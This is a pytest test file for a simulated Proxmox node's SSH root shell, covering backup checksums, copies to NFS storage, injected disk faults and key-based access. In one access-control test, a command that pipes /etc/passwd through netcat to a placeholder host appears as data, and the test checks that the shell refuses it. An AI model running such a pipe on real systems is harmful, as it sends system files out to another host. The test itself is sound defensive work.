"""A node's root shell over SSH: archive checksums, copies into another storage, SFTP reads,
and the archive faults (damaged reads, bit rot, a full storage); `/storage` config shapes."""

from __future__ import annotations

import asyncio
import hashlib
import socket
from collections.abc import Iterator
from typing import Any

import asyncssh
import pytest

from homeport.simulator.pve.node_shell import NodeSshd
from tests.simulator.proxmox.target import Target

CLIENT_KEY = asyncssh.generate_private_key("ssh-ed25519")
OTHER_KEY = asyncssh.generate_private_key("ssh-ed25519")


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def shell(sim: Target, tmp_path: Any) -> Iterator[NodeSshd]:
    assert sim.thread is not None
    sshd = NodeSshd(
        sim.sim.world,
        "pve2",
        tmp_path / "node-pve2",
        address="127.0.0.1",
        port=_free_port(),
        authorized=CLIENT_KEY.export_public_key("openssh").decode(),
    )
    sim.thread.run(sshd.start())
    try:
        yield sshd
    finally:
        sim.thread.run(sshd.stop())


def _run(sshd: NodeSshd, *commands: list[str], user: str = "root") -> list[Any]:
    async def go() -> list[Any]:
        known = asyncssh.import_known_hosts(f"[127.0.0.1]:{sshd.port} {sshd.public_key()}\n")
        async with asyncssh.connect(
            "127.0.0.1",
            sshd.port,
            username=user,
            client_keys=[CLIENT_KEY],
            known_hosts=known,
            agent_path=None,
            config=None,
        ) as conn:
            results: list[Any] = []
            for argv in commands:
                if argv[0] == "sftp-read":
                    async with conn.start_sftp_client() as sftp, sftp.open(argv[1], "rb") as f:
                        results.append(await f.read())
                else:
                    done = await conn.run(" ".join(argv), check=False, encoding=None)
                    results.append((done.exit_status, done.stdout, done.stderr))
            return results

    return asyncio.run(go())


def _archive(sim: Target, vmid: int) -> tuple[str, str]:
    sim.clone("pve2", 9001, vmid)
    sim.ok("pve2", sim.api.nodes("pve2").vzdump.post(vmid=str(vmid), compress="zstd"))
    (backup,) = sim.api.nodes("pve2").storage("local").content.get(content="backup", vmid=vmid)
    volid = str(backup["volid"])
    path = sim.api.nodes("pve2").storage("local").content(volid).get()["path"]
    return volid, str(path)


def test_checksum_and_copy_into_another_storage(sim: Target, shell: NodeSshd) -> None:
    volid, path = _archive(sim, 701)
    assert path.startswith("/var/lib/vz/dump/vzdump-qemu-701-") and path.endswith(".vma.zst")
    nas = sim.api.storage("nas").get()
    assert nas["path"] == "/mnt/pve/nas" and nas["type"] == "nfs" and "digest" in nas
    name = path.rsplit("/", 1)[1]
    copy = f"{nas['path']}/dump/{name}"
    (summed, data, copied, summed_copy, listing) = _run(
        shell,
        ["sha256sum", "--", path],
        ["sftp-read", path],
        ["cp", "--", path, copy + ".partial"],
        ["sha256sum", copy + ".partial"],
        ["ls", "-1", f"{nas['path']}/dump"],
    )
    assert summed[0] == 0 and summed[1].decode() == f"{hashlib.sha256(data).hexdigest()}  {path}\n"
    assert copied[0] == 0 and summed_copy[1].split()[0] == summed[1].split()[0]
    assert listing[1].decode() == f"{name}.partial\n"
    # A partial file is no backup; once renamed into place PVE lists it (from every node).
    assert sim.api.nodes("pve1").storage("nas").content.get(content="backup") == []
    (moved,) = _run(shell, ["mv", "-f", copy + ".partial", copy])
    assert moved[0] == 0
    (listed,) = sim.api.nodes("pve3").storage("nas").content.get(content="backup", vmid=701)
    assert listed["volid"] == f"nas:backup/{name}" and listed["ctime"] > 0
    # ... and it restores like the original.
    sim.ok("pve3", sim.api.nodes("pve3").qemu.post(vmid=702, archive=listed["volid"]))
    (removed,) = _run(shell, ["rm", "-f", copy])
    assert removed[0] == 0
    assert sim.api.nodes("pve1").storage("nas").content.get(content="backup") == []
    assert sim.api.nodes("pve2").storage("local").content.get(content="backup")[0]["volid"] == volid


def test_damaged_reads_bit_rot_and_a_full_storage(sim: Target, shell: NodeSshd) -> None:
    volid, path = _archive(sim, 703)
    (clean,) = _run(shell, ["sha256sum", path])
    good = clean[1].split()[0].decode()
    sim.faults.corrupt_reads("pve2", count=1)
    damaged, again = _run(shell, ["sftp-read", path], ["sftp-read", path])
    assert hashlib.sha256(damaged).hexdigest() != good
    assert hashlib.sha256(again).hexdigest() == good
    name = path.rsplit("/", 1)[1]
    sim.faults.disk_full("nas")
    (full,) = _run(shell, ["cp", path, f"/mnt/pve/nas/dump/{name}"])
    assert full[0] == 1 and b"No space left on device" in full[2]
    assert sim.api.nodes("pve2").storage("nas").content.get(content="backup") == []
    sim.faults.clear()
    # A copy damaged on the way is an archive that no longer restores (its frame checksums).
    sim.faults.corrupt_reads("pve2", count=1)
    (copied,) = _run(shell, ["cp", path, f"/mnt/pve/nas/dump/{name}"])
    assert copied[0] == 0
    damaged_copy = sim.wait_task(
        "pve2", sim.api.nodes("pve2").qemu.post(vmid=705, archive=f"nas:backup/{name}")
    )
    assert damaged_copy["exitstatus"].startswith("unable to restore VM 705 - command 'zstd")
    sim.faults.corrupt_archive(volid, "pve2")
    (rotten,) = _run(shell, ["sha256sum", path])
    assert rotten[1].split()[0].decode() != good
    upid = sim.api.nodes("pve2").qemu.post(vmid=704, archive=volid)
    failed = sim.wait_task("pve2", upid)
    assert failed["exitstatus"].startswith("unable to restore VM 704")
    assert any(
        "Restored data doesn't match checksum" in line for line in sim.task_log("pve2", upid)
    )
    assert 704 not in [v["vmid"] for v in sim.api.cluster.resources.get(type="vm")]


def test_only_root_with_the_authorised_key(sim: Target, shell: NodeSshd) -> None:
    with pytest.raises(asyncssh.PermissionDenied):
        _run(shell, ["true"], user="admin")
    (done,) = _run(shell, ["true"])
    assert done[0] == 0
    (refused,) = _run(shell, ["cat", "/etc/passwd", "|", "nc", "x", "1"])
    assert refused[0] == 2
    (missing,) = _run(shell, ["pvesh", "get", "/version"])
    assert missing[0] == 127


def test_storage_config_shapes(sim: Target) -> None:
    configs = {s["storage"]: s for s in sim.api.storage.get()}
    assert configs["local"]["path"] == "/var/lib/vz" and configs["local"]["type"] == "dir"
    assert "backup" in configs["local"]["content"].split(",")
    assert configs["local-lvm"]["type"] == "lvmthin" and "path" not in configs["local-lvm"]
    assert [s["storage"] for s in sim.api.storage.get(type="nfs")] == ["nas"]
